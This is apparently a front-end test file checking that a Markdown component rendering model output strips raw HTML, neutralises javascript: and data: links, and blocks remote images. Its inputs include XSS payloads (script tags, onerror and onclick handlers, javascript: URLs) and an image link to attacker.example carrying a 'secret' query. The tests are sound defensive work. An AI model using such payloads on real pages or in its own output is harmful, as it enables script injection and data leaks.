import { render, waitFor } from "@solidjs/testing-library";
import { afterEach, describe, expect, it } from "vitest";
import Markdown from "./Markdown";

declare global {
  interface Window {
    pwned?: boolean;
  }
}

afterEach(() => {
  window.pwned = undefined;
});

function renderMarkdown(text: string) {
  return render(() => <Markdown text={text} />).container;
}

describe("Markdown rendering of model output", () => {
  it("renders Markdown", () => {
    const container = renderMarkdown("# Title\n\nSome **bold** text\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(container.querySelector("h1")).toHaveTextContent("Title");
    expect(container.querySelector("strong")).toHaveTextContent("bold");
    expect(container.querySelector("table")).not.toBeNull();
  });

  it("never turns raw HTML into elements, so nothing in it can run", async () => {
    const container = renderMarkdown(
      'Hi <script>window.pwned = true</script> <img src="x" onerror="window.pwned = true"> ' +
        '<iframe src="javascript:window.pwned=true"></iframe> <a href="#" onclick="window.pwned=true">x</a>\n\n' +
        '<div onmouseover="window.pwned = true">block</div>',
    );
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(container.querySelector("script, img, iframe, div[onmouseover], [onclick], [onerror]")).toBeNull();
    expect(window.pwned).toBeUndefined();
  });

  it("neutralises javascript: and data: links and images, keeping their text", () => {
    const container = renderMarkdown(
      "[click](javascript:window.pwned=true) [data](data:text/html,<script>alert(1)</script>) " +
        "[spaced]( JaVaScRiPt:alert(1)) ![pic](javascript:alert(1))",
    );
    for (const element of container.querySelectorAll("a, img")) {
      expect(element.getAttribute("href") ?? element.getAttribute("src") ?? "").not.toMatch(
        /^\s*(javascript|data):/i,
      );
    }
    expect(container).toHaveTextContent("click");
    expect(container).toHaveTextContent("pic");
  });

  it("opens links in a new tab without giving it access to the app", () => {
    const container = renderMarkdown("See [the docs](https://example.com/docs) and https://example.org");
    const links = [...container.querySelectorAll("a")];
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link).toHaveAttribute("rel", "noopener noreferrer");
      expect(link).toHaveAttribute("target", "_blank");
    }
  });

  it("shows fenced code with its language and a copy button, escaped", async () => {
    const container = renderMarkdown("```js\nconst tag = '<b>not bold</b>';\n```");
    expect(container.querySelector(".code-block")).toHaveTextContent("js");
    expect(container.querySelector(".code-block button")).toHaveTextContent("Copy code");
    await waitFor(() => expect(container.querySelector("code .hljs-keyword")).not.toBeNull());
    expect(container.querySelector("code b")).toBeNull();
    expect(container.querySelector("code")).toHaveTextContent("const tag = '<b>not bold</b>';");
  });

  it("does not load images from elsewhere: a placeholder with their text and host opens them on request", () => {
    const container = renderMarkdown(
      'Here: ![the chart](https://attacker.example/p.png?q=secret "Chart") and ' +
        `![other port](${location.protocol}//${location.hostname}:1/p.png)`,
    );
    expect(container.querySelector("img")).toBeNull();
    const placeholders = [...container.querySelectorAll("a.remote-image")];
    expect(placeholders).toHaveLength(2);
    const [chart, otherPort] = placeholders;
    expect(chart).toHaveTextContent("the chart");
    expect(chart).toHaveTextContent("Image from attacker.example — open");
    expect(chart).toHaveAttribute("href", "https://attacker.example/p.png?q=secret");
    expect(chart).toHaveAttribute("title", "Chart");
    expect(chart).toHaveAttribute("target", "_blank");
    expect(chart).toHaveAttribute("rel", "noopener noreferrer");
    expect(otherPort).toHaveTextContent(`Image from ${location.hostname}:1 — open`);
  });

  it("loads images of the app's own origin as they are", () => {
    const container = renderMarkdown(`![logo](/favicon.svg) ![icon](${location.origin}/icons/icon-192.png)`);
    const images = [...container.querySelectorAll("img")];
    expect(images.map((image) => image.getAttribute("src"))).toEqual([
      "/favicon.svg",
      `${location.origin}/icons/icon-192.png`,
    ]);
    expect(images[0]).toHaveAttribute("alt", "logo");
    expect(container.querySelector(".remote-image")).toBeNull();
  });

  it("shows a remote image inside a link as a label of that link, without a link in a link", () => {
    const container = renderMarkdown(
      "[![badge](https://cdn.example/badge.svg)](https://example.com/project)",
    );
    expect(container.querySelector("img")).toBeNull();
    const links = [...container.querySelectorAll("a")];
    expect(links).toHaveLength(1);
    expect(links[0]).toHaveAttribute("href", "https://example.com/project");
    expect(links[0]).toHaveTextContent("badge");
    expect(links[0]).toHaveTextContent("Image from cdn.example");
    expect(links[0]).not.toHaveTextContent("open");
  });

  it("shows an image address that is no web address as its text only", () => {
    const container = renderMarkdown(
      "![mail](mailto:someone@example.com) ![relative host](//attacker.example/p.png)",
    );
    expect(container.querySelector("img, a")).toBeNull();
    expect(container).toHaveTextContent("mail");
    expect(container).toHaveTextContent("relative host");
  });
});
